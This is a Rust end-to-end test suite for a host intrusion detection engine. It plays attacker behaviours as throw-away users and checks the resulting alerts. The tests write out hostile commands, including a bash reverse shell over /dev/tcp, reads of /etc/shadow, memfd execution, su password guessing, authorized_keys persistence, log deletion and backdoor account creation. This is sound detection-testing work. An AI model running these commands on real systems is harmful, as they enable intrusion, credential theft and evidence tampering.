//! Detection scenarios for real: throw-away users, a benign baseline learned from the live
//! kernel stream, then each detection's behaviour played as one of those users and the
//! anomaly and its reasons checked. Runs as root; fails when it cannot.

use std::io::{Read, Write};
use std::process::Command;
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use sentinel::config::Config;
use sentinel::detect::{Engine, EngineOptions};
use sentinel::model::{Anomaly, Level};
use sentinel::store::Store;
use sentinel_e2e::world::{World, benign_work, relevant, remove_at_exit, remove_user, sh};
use sentinel_e2e::*;

/// Where helper binaries for the scenarios live (root-owned, not world-writable).
const TOOLS: &str = "/usr/local/lib/sentinel-scenarios";
const DEV: &str = "sntl-dev";
const ATK: &str = "sntl-atk";

fn world() -> &'static World {
    static W: OnceLock<&'static World> = OnceLock::new();
    W.get_or_init(|| {
        World::start(DEV, ATK, |_, _| {
            remove_at_exit(TOOLS);
            sh(&format!(
                "mkdir -p {TOOLS} && cp /usr/bin/bash {TOOLS}/nginx && cp /usr/bin/id {TOOLS}/rootid \
                 && chmod 4755 {TOOLS}/rootid && mkdir -p /home/{DEV}/docs \
                 && for i in $(seq 1 25); do echo secret $i > /home/{DEV}/docs/f$i.txt; done \
                 && chown -R {DEV}: /home/{DEV}/docs"
            ));
        })
    })
}

fn settle(w: &World) {
    w.settle();
}

fn expect(uid: u32, detection: &str, parts: &[&str]) -> Anomaly {
    world().expect(uid, detection, parts)
}

#[test]
fn benign_developer_work_after_learning_raises_nothing_above_low() {
    let w = world();
    for round in 2..4 {
        benign_work(&w.dev, round);
    }
    settle(w);
    let loud = w.loud(w.dev.uid);
    assert!(loud.is_empty(), "{loud:#?}");
}

#[test]
fn credential_file_read() {
    let w = world();
    w.atk.run_root(&["cat", "/etc/shadow"]);
    let a = expect(
        w.atk.uid,
        "credential_access",
        &["read /etc/shadow: never seen for this user in"],
    );
    assert_eq!(a.principal.user.as_deref(), Some(ATK));
    assert!(a.level >= Level::Medium);
    assert!(
        a.chain.last().is_some_and(|l| l.exe.ends_with("/cat")),
        "{:?}",
        a.chain
    );
}

#[test]
fn exec_from_tmp() {
    let w = world();
    let dir = format!("/tmp/sntl-{}", std::process::id());
    sh(&format!(
        "mkdir -p {dir} && cp /usr/bin/true {dir}/kworker && chmod 755 {dir}/kworker"
    ));
    w.atk.run(&[&format!("{dir}/kworker")]);
    expect(
        w.atk.uid,
        "exec_from_writable",
        &[&format!("executed {dir}/kworker from /tmp/")],
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn exec_from_memfd() {
    let w = world();
    w.atk.run(&[
        "/usr/bin/python3",
        "-c",
        "import os; fd=os.memfd_create('payload'); os.write(fd, open('/usr/bin/true','rb').read()); os.execv(f'/proc/self/fd/{fd}', ['payload'])",
    ]);
    expect(w.atk.uid, "exec_from_memfd", &["memfd:payload"]);
}

#[test]
fn shell_below_a_network_service() {
    let w = world();
    w.atk
        .run(&[&format!("{TOOLS}/nginx"), "-c", "sh -c 'echo hi'; true"]);
    expect(
        w.atk.uid,
        "service_shell",
        &[&format!("spawned by network-facing service {TOOLS}/nginx")],
    );
}

#[test]
fn reverse_shell_with_stdio_on_a_socket() {
    let w = world();
    let l = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = l.local_addr().expect("addr").port();
    let mut child = w
        .atk
        .cmd(&[
            "bash",
            "-c",
            &format!("exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
        ])
        .spawn()
        .expect("spawn");
    // The shell must connect back; fail (not hang) when it does not.
    l.set_nonblocking(true).expect("nonblocking");
    let deadline = Instant::now() + EVENT_WAIT;
    let mut conn = loop {
        match l.accept() {
            Ok((c, _)) => break c,
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                assert!(
                    Instant::now() < deadline,
                    "the reverse shell never connected"
                );
                std::thread::sleep(Duration::from_millis(20));
            }
            Err(e) => panic!("accept: {e}"),
        }
    };
    conn.set_nonblocking(false).expect("blocking");
    let a = expect(
        w.atk.uid,
        "reverse_shell",
        &["on a network socket (reverse shell)"],
    );
    assert!(a.level >= Level::High);
    expect(
        w.atk.uid,
        "reverse_shell",
        &["connected to 127.0.0.1:", "itself"],
    );
    let _ = conn.write_all(b"exit\n");
    let mut sink = Vec::new();
    let _ = conn.set_read_timeout(Some(Duration::from_secs(2)));
    let _ = conn.read_to_end(&mut sink);
    let _ = child.kill();
    let _ = child.wait();
}

#[test]
fn first_ever_destination() {
    let w = world();
    w.atk.run(&[
        "/usr/bin/python3",
        "-c",
        "import socket; s=socket.socket(); s.setblocking(False); s.connect_ex(('192.0.2.1', 9))",
    ]);
    expect(
        w.atk.uid,
        "new_destination",
        &["connected to 192.0.2.1:9", "never seen for this user"],
    );
}

#[test]
fn set_uid_root_binary() {
    let w = world();
    w.atk.run(&[&format!("{TOOLS}/rootid")]);
    expect(
        w.atk.uid,
        "privilege_escalation",
        &[&format!(
            "{TOOLS}/rootid gained root (euid {} -> 0) at exec",
            w.atk.uid
        )],
    );
}

#[test]
fn su_never_used_before() {
    let w = world();
    // Without a controlling terminal su cannot prompt: it fails at once, after its exec.
    w.atk.run(&["setsid", "su", "-c", "true", "root"]);
    expect(
        w.atk.uid,
        "unusual_switch_user",
        &["ran su: never used by this user"],
    );
}

#[test]
fn password_guessing_with_su() {
    let w = world();
    // One shell tries su five times (without a terminal each attempt fails at once, before
    // starting anything, as a wrong password does).
    w.atk.run(&[
        "sh",
        "-c",
        "for i in 1 2 3 4 5; do setsid su -c true root; done; true",
    ]);
    let a = expect(
        w.atk.uid,
        "brute_force",
        &[
            "failed authentications for account root from login session",
            "password guessing",
        ],
    );
    assert!(a.level >= Level::Medium, "{a:#?}");
}

#[test]
fn ptrace_attach() {
    let w = world();
    w.atk.run(&[
        "/usr/bin/python3",
        "-c",
        "import ctypes, os, signal, time\n\
         pid = os.fork()\n\
         if pid == 0:\n    time.sleep(30); os._exit(0)\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         libc.ptrace(16, pid, None, None)\n\
         os.kill(pid, signal.SIGKILL)\n",
    ]);
    expect(w.atk.uid, "ptrace", &["used PTRACE_ATTACH on"]);
}

#[test]
fn mass_read_of_another_users_files() {
    let w = world();
    w.atk
        .run_root(&["sh", "-c", &format!("cat /home/{DEV}/docs/*")]);
    expect(
        w.atk.uid,
        "mass_read",
        &[&format!(
            "read 20 files in other users' home directories ({DEV})"
        )],
    );
}

#[test]
fn authorized_keys_write() {
    let w = world();
    w.atk.run(&[
        "sh",
        "-c",
        "echo 'ssh-ed25519 AAAA test' >> $HOME/.ssh/authorized_keys",
    ]);
    expect(
        w.atk.uid,
        "persistence",
        &[&format!("wrote /home/{ATK}/.ssh/authorized_keys with")],
    );
}

#[test]
fn log_file_deleted_and_truncated() {
    let w = world();
    let f = format!("/var/log/sntl-test-{}.log", std::process::id());
    w.atk
        .run_root(&["sh", "-c", &format!("echo x > {f}; rm -f {f}")]);
    expect(
        w.atk.uid,
        "log_tampering",
        &[&format!("truncated {f} with")],
    );
    expect(w.atk.uid, "log_tampering", &[&format!("deleted {f} with")]);
}

#[test]
fn account_created() {
    let w = world();
    let name = "sntl-bd";
    remove_user(name);
    w.atk.run_root(&["useradd", "-M", name]);
    remove_user(name);
    expect(
        w.atk.uid,
        "account_change",
        &[&format!("ran useradd -M {name}: changes user accounts")],
    );
}

#[test]
fn discovery_burst() {
    let w = world();
    // One login session: bursts are counted per session (each `run` is a login of its own).
    w.atk.run(&[
        "sh",
        "-c",
        "id; whoami; uname -a; hostname; cat /etc/passwd",
    ]);
    expect(
        w.atk.uid,
        "discovery_burst",
        &["discovery commands within 120 s"],
    );
}

#[test]
fn bpf_program_load() {
    let w = world();
    // BPF_PROG_LOAD of "r0 = 0; exit" as a socket filter.
    w.atk.run_root(&[
        "/usr/bin/python3",
        "-c",
        "import ctypes, struct\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         insns = ctypes.create_string_buffer(struct.pack('<BBhiBBhi', 0xb7, 0, 0, 0, 0x95, 0, 0, 0), 16)\n\
         lic = ctypes.create_string_buffer(b'GPL')\n\
         attr = ctypes.create_string_buffer(struct.pack('<IIQQ', 1, 2, ctypes.addressof(insns), ctypes.addressof(lic)), 128)\n\
         fd = libc.syscall(321, 5, attr, 128)\n\
         assert fd >= 0, ctypes.get_errno()\n",
    ]);
    expect(
        w.atk.uid,
        "bpf_load",
        &["loaded a BPF program (BPF_PROG_LOAD)"],
    );
}

#[test]
fn kernel_module_tool() {
    let w = world();
    w.atk.run_root(&["insmod", "/nonexistent-sentinel.ko"]);
    expect(
        w.atk.uid,
        "kernel_module",
        &["/nonexistent-sentinel.ko from a login session"],
    );
}

/// Learned hours cannot be played back in real time, so this baseline is written as if the
/// user had always worked twelve hours away from now; the activity itself is real.
#[test]
fn activity_outside_learned_hours() {
    use sentinel::profile::{Calibration, Profile};
    let w = world();
    let d = tempfile::tempdir().expect("tempdir");
    let store = Store::open(&d.path().join("s.db")).expect("store");
    let now = sentinel::store::now_ns();
    let day = 86_400_000_000_000i64;
    let hour = sentinel::timefmt::local_hour(now) as usize;
    let mut p = Profile::new(now - 14 * day);
    p.windows = 1000;
    p.last_ns = now - day;
    p.vouched = true;
    p.state = Calibration::Calibrated;
    p.hours[(hour + 12) % 24] = 1000;
    store
        .put_baseline(
            "profile:principal",
            &w.atk.uid.to_string(),
            &serde_json::to_value(&p).expect("json"),
        )
        .expect("put");
    let mut engine = Engine::with_options(
        &Config::default().detect,
        Config::default().host_name(),
        store,
        EngineOptions {
            live: true,
            users: None,
            learn_all: false,
        },
    )
    .expect("engine");
    let tag = format!("sentinel-hours-{}", std::process::id());
    Command::new("/bin/true").arg(&tag).status().expect("true");
    let mark = wait_for("hours marker", |e| {
        matches!(&e.payload, sentinel::event::Payload::Exec { argv, .. }
            if argv.iter().any(|a| a.as_bytes() == tag.as_bytes()))
    });
    w.atk.run(&["ls", "/"]);
    let deadline = Instant::now() + Duration::from_secs(60);
    let mut last = mark.id;
    // What the engine saw and said, for the failure message.
    let mut seen: Vec<String> = Vec::new();
    let mut said: Vec<String> = Vec::new();
    loop {
        let evs = events_after(last);
        for ev in &evs {
            last = ev.id;
            if !relevant(ev, &[w.atk.uid]) {
                continue;
            }
            if ev.principal_uid() == w.atk.uid && seen.len() < 40 {
                seen.push(format!(
                    "{:?} pid {} at {:02}h",
                    ev.kind(),
                    ev.pid,
                    sentinel::timefmt::local_hour(ev.time_ns)
                ));
            }
            for a in engine.observe(ev) {
                if a.principal.uid == w.atk.uid && said.len() < 40 {
                    let dets: Vec<&str> = a.factors.iter().map(|f| f.detection.as_str()).collect();
                    said.push(dets.join("+"));
                }
                if a.principal.uid == w.atk.uid
                    && let Some(f) = a.factors.iter().find(|f| f.detection == "off_hours")
                {
                    assert!(
                        f.reason.contains("this user was never active between")
                            && f.reason.contains("13 days of baseline"),
                        "{}",
                        f.reason
                    );
                    return;
                }
            }
        }
        assert!(
            Instant::now() < deadline,
            "no off_hours anomaly for {ATK} (uid {}, baseline hour {:02}h, now {hour:02}h); \
             its events the engine saw: {seen:?}; its anomalies: {said:?}; engine: {:?}; collector: {}",
            w.atk.uid,
            (hour + 12) % 24,
            engine.stats(),
            live_losses()
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}
